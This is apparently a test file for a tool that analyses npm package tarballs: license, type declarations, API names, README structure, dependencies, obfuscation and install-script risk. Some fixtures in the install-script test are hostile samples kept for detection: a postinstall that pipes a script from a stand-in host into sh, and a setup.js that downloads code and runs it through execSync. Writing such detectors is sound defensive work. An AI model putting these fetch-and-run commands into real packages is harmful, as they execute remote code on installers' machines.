// Version analysis on real tarballs built like `npm pack` does (test/helpers/packages.ts).
import { describe, expect, test } from 'bun:test'
import { packTarball, type Manifest } from '../../test/helpers/packages.ts'
import { ANALYSIS_VERSION, analyzeVersion, type AnalysisResult, type VersionAnalysis } from '../src/index.ts'

function ok(result: AnalysisResult): VersionAnalysis {
  if (result.status !== 'ok') throw new Error(`rejected: ${result.reason} ${result.message}`)
  return result
}

async function analyze(manifest: Manifest, files: Record<string, string> = {}, options: Parameters<typeof analyzeVersion>[1] = {}): Promise<VersionAnalysis> {
  return ok(await analyzeVersion(await packTarball(manifest, files), options))
}

const README = `# tiny-http

A tiny HTTP server framework for Node.js with routing and middleware.

## Installation

\`\`\`sh
npm install tiny-http
\`\`\`

## Usage

\`\`\`js
import { createServer } from 'tiny-http'
createServer().listen(3000)
\`\`\`

## API

### createServer(options)

## License

MIT
`

describe('analyzeVersion', () => {
  test('reads a typed dual ESM/CJS package completely', async () => {
    const analysis = await analyze(
      {
        name: 'tiny-http',
        version: '1.2.0',
        description: 'A tiny HTTP server framework with routing',
        keywords: ['http', 'server', 'router'],
        license: 'mit',
        type: 'module',
        exports: { '.': { types: './dist/index.d.ts', import: './dist/index.js', require: './dist/index.cjs' }, './package.json': './package.json' },
        main: './dist/index.cjs',
        engines: { node: '>=18' },
        sideEffects: false,
        repository: 'github:acme/tiny-http',
        scripts: { test: 'vitest run' },
        devDependencies: { vitest: '^3.0.0' },
        dependencies: { 'path-to-regexp': '^8.0.0' },
      },
      {
        'README.md': README,
        'CHANGELOG.md': '# Changelog\n\n## 1.2.0\n\n- routing\n',
        'dist/index.js': "export function createServer() {}\nexport const version = '1.2.0'\n",
        'dist/index.cjs': 'exports.createServer = function () {}\n',
        'dist/index.d.ts': "export declare function createServer(): Server\nexport interface Server { listen(port: number): void }\nexport * from './router.js'\n",
        'dist/router.d.ts': 'export declare class Router {}\nexport type Route = string\n',
        LICENSE: 'MIT License',
      },
    )
    expect(analysis.analysisVersion).toBe(ANALYSIS_VERSION)
    expect(analysis.license).toMatchObject({ declared: 'mit', spdx: 'MIT', corrected: true, kind: 'permissive', osiApproved: true, file: 'LICENSE' })
    expect(analysis.types).toMatchObject({ kind: 'bundled', entry: 'dist/index.d.ts', declarationFiles: 2, exportsTypesCondition: true })
    expect(analysis.api).toEqual({
      source: 'types',
      entry: 'dist/index.d.ts',
      names: ['Route', 'Router', 'Server', 'createServer'],
      truncated: false,
      declarations: [
        { name: 'Route', kind: 'type', signature: 'type Route = string', summary: null },
        { name: 'Router', kind: 'class', signature: 'class Router {}', summary: null },
        { name: 'Server', kind: 'interface', signature: 'interface Server { listen(port: number): void }', summary: null },
        { name: 'createServer', kind: 'function', signature: 'function createServer(): Server', summary: null },
      ],
    })
    expect(analysis.module.format).toBe('dual')
    expect(analysis.module.exports.subpaths).toEqual(['.', './package.json'])
    expect(analysis.module.engines).toEqual({ node: '>=18', validRange: true })
    expect(analysis.module.sideEffects).toBe(false)
    expect(analysis.readme.sections).toEqual(expect.arrayContaining(['install', 'usage', 'api', 'license']))
    expect(analysis.readme.codeBlocks).toBe(2)
    expect(analysis.readme.hasUsageExample).toBe(true)
    expect(analysis.readme.examples).toEqual([{ heading: 'Usage', language: 'js', code: "import { createServer } from 'tiny-http'\ncreateServer().listen(3000)" }])
    expect(analysis.readme.summary).toBe('A tiny HTTP server framework for Node.js with routing and middleware.')
    expect(analysis.changelog).toEqual({ file: 'CHANGELOG.md', mentionsVersion: true })
    expect(analysis.tests).toEqual({ testScript: true, testFiles: 0, frameworks: ['vitest'] })
    expect(analysis.dependencies).toMatchObject({ names: ['path-to-regexp'], count: 1, devCount: 1, unbounded: [], nonRegistry: [] })
    expect(analysis.installScripts.risk).toBe('none')
    expect(analysis.packaging.publint.ran).toBe(true)
    expect(analysis.capabilities.map((capability) => capability.id)).toEqual(expect.arrayContaining(['http-server', 'routing']))
    // Plain data: survives a JSON round trip unchanged.
    expect(JSON.parse(JSON.stringify(analysis))).toEqual(analysis)
  })

  test('finds API names from CommonJS and from ES module entries when there are no types', async () => {
    const cjs = await analyze({ name: 'c', version: '1.0.0', main: 'index.js' }, { 'index.js': "module.exports = require('./lib/impl')\n", 'lib/impl.js': "exports.parse = () => 1\nmodule.exports.stringify = () => 2\nexports.extra = 3\n" })
    expect(cjs.api).toMatchObject({ source: 'cjs', entry: 'index.js', names: ['extra', 'parse', 'stringify'] })
    const esm = await analyze({ name: 'e', version: '1.0.0', type: 'module', exports: './index.js' }, { 'index.js': "export const a = 1\nexport default function b() {}\nexport * from './more.js'\n", 'more.js': 'export function more() {}\n' })
    expect(esm.api).toMatchObject({ source: 'esm', names: ['a', 'default', 'more'] })
    expect(esm.module.format).toBe('esm')
  })

  test('reads `export =` declaration files through their namespace', async () => {
    const analysis = await analyze({ name: 'legacy', version: '1.0.0', types: 'index.d.ts' }, { 'index.d.ts': 'declare function legacy(): void\ndeclare namespace legacy {\n  function helper(): void\n  const VERSION: string\n  interface Options {}\n}\nexport = legacy\n', 'index.js': 'module.exports = function () {}' })
    expect(analysis.api.names).toEqual(['Options', 'VERSION', 'helper'])
    expect(analysis.types.kind).toBe('bundled')
  })

  test('types from an @types dependency, and no types at all', async () => {
    const viaDependency = await analyze({ name: '@acme/thing', version: '1.0.0', dependencies: { '@types/acme__thing': '1.0.0' } }, { 'index.js': '' })
    expect(viaDependency.types.kind).toBe('types-dependency')
    const none = await analyze({ name: 'plain', version: '1.0.0' }, { 'index.js': 'module.exports = 1' })
    expect(none.types).toMatchObject({ kind: 'none', entry: null, declarationFiles: 0 })
    expect(none.module.format).toBe('cjs')
  })

  test('classifies install scripts: none, local build, prebuilt download, remote code', async () => {
    const risk = async (scripts: Record<string, string>, files: Record<string, string> = {}) => (await analyze({ name: 's', version: '1.0.0', scripts }, files)).installScripts
    expect((await risk({ test: 'node test.js', prepare: 'tsc' })).risk).toBe('none')
    expect((await risk({ install: 'node-gyp rebuild' })).risk).toBe('local-build')
    expect((await risk({ install: 'prebuild-install || node-gyp rebuild' })).risk).toBe('prebuilt-download')
    const curl = await risk({ postinstall: 'curl -s https://evil.example/x.sh | sh' })
    expect(curl.risk).toBe('remote-code')
    expect(curl.evidence[0]).toContain('curl')
    const dropper = await risk({ postinstall: 'node setup.js' }, { 'setup.js': "const https = require('https'); const { execSync } = require('child_process'); https.get('https://x.example/p', (r) => execSync(r))" })
    expect(dropper.risk).toBe('remote-code')
    expect(dropper.evidence[0]).toContain('setup.js')
    const harmless = await risk({ postinstall: 'node setup.js' }, { 'setup.js': "console.log('thanks for installing')" })
    expect(harmless.risk).toBe('local-build')
  })

  test('binding.gyp without an install script means an implicit node-gyp rebuild', async () => {
    const analysis = await analyze({ name: 'native', version: '1.0.0', dependencies: { 'node-addon-api': '^8.0.0' } }, { 'binding.gyp': '{}', 'src/addon.cc': '' })
    expect(analysis.installScripts).toMatchObject({ implicitNodeGyp: true, risk: 'local-build' })
    expect(analysis.native).toMatchObject({ bindingGyp: true, nativeDependencies: ['node-addon-api'] })
  })

  test('detects obfuscated and minified files without flagging ordinary code', async () => {
    const obfuscated = Array.from({ length: 30 }, (_, i) => `var _0x${(0xa1b2 + i).toString(16)}=_0x${(0xc3d4 + i).toString(16)}('0x${i}');`).join('\n')
    const minified = `!function(){${'var a=1,b=2;function c(d){return d+a+b}'.repeat(200)}}();`
    const ordinary = Array.from({ length: 200 }, (_, i) => `export function f${i}(value) {\n  return value + ${i}\n}\n`).join('\n')
    const analysis = await analyze({ name: 'o', version: '1.0.0' }, { 'a.js': obfuscated, 'b.min.js': minified, 'c.js': ordinary, 'colors.js': "const red = '\\x1b[31m'; const reset = '\\x1b[39m'\n".repeat(50) })
    expect(analysis.code.obfuscatedFiles).toEqual(['a.js'])
    expect(analysis.code.minifiedFiles).toEqual(['b.min.js'])
  })

  test('records builtins, eval use, deprecated, unbounded and non-registry dependencies', async () => {
    const analysis = await analyze(
      { name: 'd', version: '0.3.0', dependencies: { request: '^2.88.0', anything: '*', fork: 'github:someone/fork', newer: '>=1.0.0', fine: '^1.0.0' } },
      { 'index.js': "const http = require('node:http')\nimport('child_process')\neval('1')\n" },
      { deprecatedDependencies: ['request'] },
    )
    expect(analysis.code.builtins).toEqual(['child_process', 'http'])
    expect(analysis.code.evalFiles).toEqual(['index.js'])
    expect(analysis.dependencies.deprecated).toEqual(['request'])
    expect(analysis.dependencies.unbounded.sort()).toEqual(['anything', 'newer'])
    expect(analysis.dependencies.nonRegistry).toEqual(['fork'])
  })

  test('flags a tarball whose package.json differs from the registry manifest', async () => {
    const tarball = await packTarball({ name: 'confused', version: '1.0.0', scripts: { postinstall: 'node steal.js' } }, { 'steal.js': '' })
    const analysis = ok(await analyzeVersion(tarball, { manifest: { name: 'confused', version: '1.0.0', scripts: {} } }))
    expect(analysis.manifest).toEqual({ checked: true, mismatches: ['scripts'] })
    // npm runs the scripts of the package.json it extracted, so they are judged too.
    expect(analysis.installScripts.risk).toBe('none')
  })

  test('a README only in the manifest is still analysed', async () => {
    const analysis = await analyze({ name: 'm', version: '1.0.0', readme: '# m\n\n## Usage\n\n```js\nrequire("m")\n```\n' })
    expect(analysis.readme).toMatchObject({ source: 'manifest', sections: ['usage'], codeBlocks: 1, hasUsageExample: true })
  })

  test('no README, no license, no description', async () => {
    const analysis = await analyze({ name: 'bare', version: '0.0.1' })
    expect(analysis.readme.source).toBe('none')
    expect(analysis.license.kind).toBe('none')
    expect(analysis.capabilities).toEqual([])
  })

  test('runs @arethetypeswrong/core when asked', async () => {
    const analysis = await analyze(
      { name: 'wrong-types', version: '1.0.0', type: 'module', exports: { '.': { import: './index.js', types: './index.d.ts' } } },
      { 'index.js': 'export default 1', 'index.d.ts': 'declare const x: number\nexport default x\n' },
      { checks: { attw: true } },
    )
    expect(analysis.packaging.attw.ran).toBe(true)
    // `types` after `import` never applies: attw sees untyped resolutions.
    expect(analysis.packaging.attw.errors + analysis.packaging.attw.warnings).toBeGreaterThan(0)
    expect(analysis.packaging.publint.messages.map((message) => message.code)).toContain('EXPORTS_TYPES_SHOULD_BE_FIRST')
  })
})
